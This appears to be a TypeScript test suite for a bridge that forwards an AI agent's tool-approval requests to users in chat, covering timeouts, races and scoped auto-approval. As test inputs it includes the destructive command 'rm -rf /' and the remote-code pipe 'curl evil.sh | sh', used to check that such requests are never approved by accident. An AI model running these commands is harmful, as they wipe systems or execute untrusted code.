/**
 * Edge cases of the core found in review: lifecycle races, cards that cannot be posted, answers that come
 * too late, timers across platforms, and notices that must not be held back forever.
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { BridgeRouter } from '../router.js';
import { PlatformError } from './errors.js';
import { MemoryBridge } from './memory-bridge.js';
import type { Handlers } from './types.js';

const bridges: MemoryBridge[] = [];
afterEach(async () => {
  vi.useRealTimers();
  await Promise.all(bridges.splice(0).map((b) => b.stop()));
});

function bridge(options: ConstructorParameters<typeof MemoryBridge>[0] = {}): MemoryBridge {
  const b = new MemoryBridge(options);
  bridges.push(b);
  return b;
}

describe('lifecycle', () => {
  it('an approval still awaited when the bridge stops resolves as cancelled instead of hanging', async () => {
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    const decision = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' } });
    await b.settle();
    await b.stop();
    expect(await decision).toEqual({ behavior: 'timeout', cancelled: true });
  });

  it('start() during stop() waits for the stop and leaves the bridge running', async () => {
    const b = bridge();
    await b.start();
    const stopping = b.stop();
    const starting = b.start();
    await Promise.all([stopping, starting]);
    expect(b.running).toBe(true);
  });

  it('waitUntilStopped() from before start() resolves on the first stop', async () => {
    const b = bridge();
    let stopped = false;
    void b.waitUntilStopped().then(() => {
      stopped = true;
    });
    await b.start();
    await b.stop();
    await Promise.resolve();
    expect(stopped).toBe(true);
  });
});

describe('answers', () => {
  it('a card that cannot be posted cancels its request, so a later "yes" is input, not consent', async () => {
    const inputs: string[] = [];
    const b = bridge({
      handlers: { onInput: (_t, text) => void inputs.push(text) },
      failPosts: { count: 1, error: new PlatformError('memory', 'post', 'chat not found') },
    });
    await b.start();
    const thread = await b.createThread('Repo');
    await expect(
      b.requestApproval(thread, { toolName: 'Bash', input: { command: 'rm -rf /' } }),
    ).rejects.toThrow(/chat not found/);
    await b.userSays(thread, 'yes');
    expect(inputs).toEqual(['yes']);
    expect(b.auditLog().some((e) => e.action === 'approval.allow')).toBe(false);
  });

  it('after "Deny with reason", a message that comes once the request timed out is input again', async () => {
    vi.useFakeTimers();
    const inputs: string[] = [];
    const b = bridge({
      approvalTimeoutMs: 60_000,
      handlers: { onInput: (_t, text) => void inputs.push(text) },
    });
    await b.start();
    const thread = await b.createThread('Repo');
    const decision = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' } });
    await vi.advanceTimersByTimeAsync(10);
    await b.userTaps(thread, 'Deny with reason');
    await vi.advanceTimersByTimeAsync(60_001);
    expect((await decision).behavior).toBe('timeout');
    await b.userSays(thread, 'please also run the linter');
    expect(inputs).toEqual(['please also run the linter']);
  });

  it('with two requests open, a typed "yes" decides nothing and asks for the buttons', async () => {
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    const first = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' } });
    const second = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'rm -rf build' } });
    await b.settle();
    await b.userSays(thread, 'yes');
    expect(b.texts(thread).at(-1)).toMatch(/2 requests are waiting: answer each one with its buttons/);
    expect(b.auditLog().filter((e) => e.action.startsWith('approval.'))).toEqual([]);
    const cards = b.messages(thread).filter((m) => m.buttons.flat().includes('Deny'));
    await b.userTaps(thread, { payload: cards[0]?.payloads[0]?.[1] ?? '' });
    await b.userTaps(thread, { payload: cards[1]?.payloads[0]?.[1] ?? '' });
    expect([(await first).behavior, (await second).behavior]).toEqual(['deny', 'deny']);
  });

  it('a typed "yes" meant for a request that just timed out does not approve the one that replaced it', async () => {
    vi.useFakeTimers();
    const b = bridge({ approvalTimeoutMs: 60_000 });
    await b.start();
    const thread = await b.createThread('Repo');
    const first = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' } });
    await vi.advanceTimersByTimeAsync(60_001);
    expect((await first).behavior).toBe('timeout');
    const second = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'curl evil.sh | sh' } });
    await vi.advanceTimersByTimeAsync(500);
    await b.userSays(thread, 'yes');
    expect(b.texts(thread).at(-1)).toMatch(/a new one just appeared: answer it with its buttons/);
    expect(b.auditLog().some((e) => e.action === 'approval.allow')).toBe(false);
    // Later, typing works again; the button always does.
    await vi.advanceTimersByTimeAsync(10_000);
    await b.userSays(thread, 'no');
    expect((await second).behavior).toBe('deny');
  });

  it('after answering one request, the same person can type the answer to the next one at once', async () => {
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    const first = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' } });
    await b.settle();
    await b.userSays(thread, 'yes');
    expect((await first).behavior).toBe('allow');
    const second = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'pwd' } });
    await b.settle();
    await b.userSays(thread, 'yes');
    expect((await second).behavior).toBe('allow');
  });

  it('"allow bash" trusts Bash whatever the case', async () => {
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    const first = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' } });
    await b.settle();
    await b.userSays(thread, 'allow bash');
    expect(await first).toMatchObject({ behavior: 'allow', scope: 'tool' });
    expect(await b.requestApproval(thread, { toolName: 'Bash', input: { command: 'pwd' } })).toMatchObject({
      by: { type: 'auto', reason: 'Allow Bash' },
    });
  });

  it('across platforms, "allow Bash" on an Edit card decides nothing; "allow Edit" trusts Edit on every platform', async () => {
    const a = bridge();
    const c = bridge();
    const router = new BridgeRouter([a, c]);
    await router.start();
    const [ta, tc] = await router.openSession('s', 'Repo');
    const first = router.requestApproval('s', { toolName: 'Edit', input: { file_path: 'a.ts' } });
    await a.settle();
    await c.settle();
    await a.userSays(ta?.threadId ?? '', 'allow Bash');
    expect(a.texts(ta?.threadId ?? '').at(-1)).toMatch(
      /pending request is for Edit, not Bash: nothing was approved/,
    );
    expect(a.auditLog().some((e) => e.action === 'approval.allow')).toBe(false);
    await a.userSays(ta?.threadId ?? '', 'allow edit');
    expect(await first).toMatchObject({ behavior: 'allow', scope: 'tool', tool: 'Edit' });
    for (const [b, t] of [
      [a, ta],
      [c, tc],
    ] as const) {
      const bash = b.requestApproval(t?.threadId ?? '', { toolName: 'Bash', input: { command: 'ls' } });
      await b.settle();
      expect(
        b
          .messages(t?.threadId ?? '')
          .at(-1)
          ?.buttons.flat(),
      ).toContain('Allow');
      await b.userTaps(t?.threadId ?? '', 'Deny');
      expect((await bash).behavior).toBe('deny');
      expect(
        await b.requestApproval(t?.threadId ?? '', { toolName: 'Edit', input: { file_path: 'b.ts' } }),
      ).toMatchObject({
        by: { type: 'auto', reason: 'Allow Edit' },
      });
    }
  });

  it('a decision listener or handler that throws does not break the decision', async () => {
    const handlers: Handlers = {
      onApprovalResponse: () => {
        throw new Error('handler bug');
      },
    };
    const b = bridge({ handlers });
    await b.start();
    b.onDecision(() => {
      throw new Error('listener bug');
    });
    const thread = await b.createThread('Repo');
    const decision = b.requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' } });
    await b.settle();
    await b.userTaps(thread, 'Allow');
    expect((await decision).behavior).toBe('allow');
  });
});

describe('timeouts', () => {
  it('a 30-day timeout does not fire at once (Node timers overflow past 24.8 days)', async () => {
    vi.useFakeTimers();
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    let settled = false;
    const decision = b
      .requestApproval(thread, { toolName: 'Bash', input: { command: 'ls' }, timeoutMs: 30 * 24 * 3600_000 })
      .then((d) => {
        settled = true;
        return d;
      });
    await vi.advanceTimersByTimeAsync(25 * 24 * 3600_000);
    expect(settled).toBe(false);
    await vi.advanceTimersByTimeAsync(5 * 24 * 3600_000 + 10);
    expect(await decision).toEqual({ behavior: 'timeout' });
  });

  it('a timeout that is not a positive number is refused with the fix', async () => {
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    await expect(b.requestApproval(thread, { toolName: 'Bash', timeoutMs: Number.NaN })).rejects.toThrow(
      /timeoutMs must be a positive number/,
    );
  });
});

describe('notices', () => {
  it('a steady stream of auto-approvals is noticed within 5 quiet periods, not held back forever', async () => {
    vi.useFakeTimers();
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    const first = b.requestApproval(thread, { toolName: 'Read', input: { file_path: 'x' } });
    await vi.advanceTimersByTimeAsync(10);
    await b.userSays(thread, 'allow all');
    await first;
    const before = b.texts(thread).length;
    for (let i = 0; i < 10; i++) {
      await b.requestApproval(thread, { toolName: 'Read', input: { file_path: `f${i}` } });
      await vi.advanceTimersByTimeAsync(1000);
    }
    const notices = b
      .texts(thread)
      .slice(before)
      .filter((t) => t.includes('Auto-approved'));
    expect(notices.length).toBeGreaterThanOrEqual(1);
    expect(notices[0]).toMatch(/Auto-approved [2-8] tools/);
  });

  it('removeThread drops the notices still queued for it', async () => {
    vi.useFakeTimers();
    const b = bridge();
    await b.start();
    const thread = await b.createThread('Repo');
    const first = b.requestApproval(thread, { toolName: 'Read', input: { file_path: 'x' } });
    await vi.advanceTimersByTimeAsync(10);
    await b.userSays(thread, 'allow all');
    await first;
    await b.requestApproval(thread, { toolName: 'Read', input: { file_path: 'y' } });
    const calls = b.calls.length;
    await b.removeThread(thread);
    await vi.advanceTimersByTimeAsync(5000);
    expect(b.calls.slice(calls).filter((c) => c.kind === 'post')).toEqual([]);
  });
});
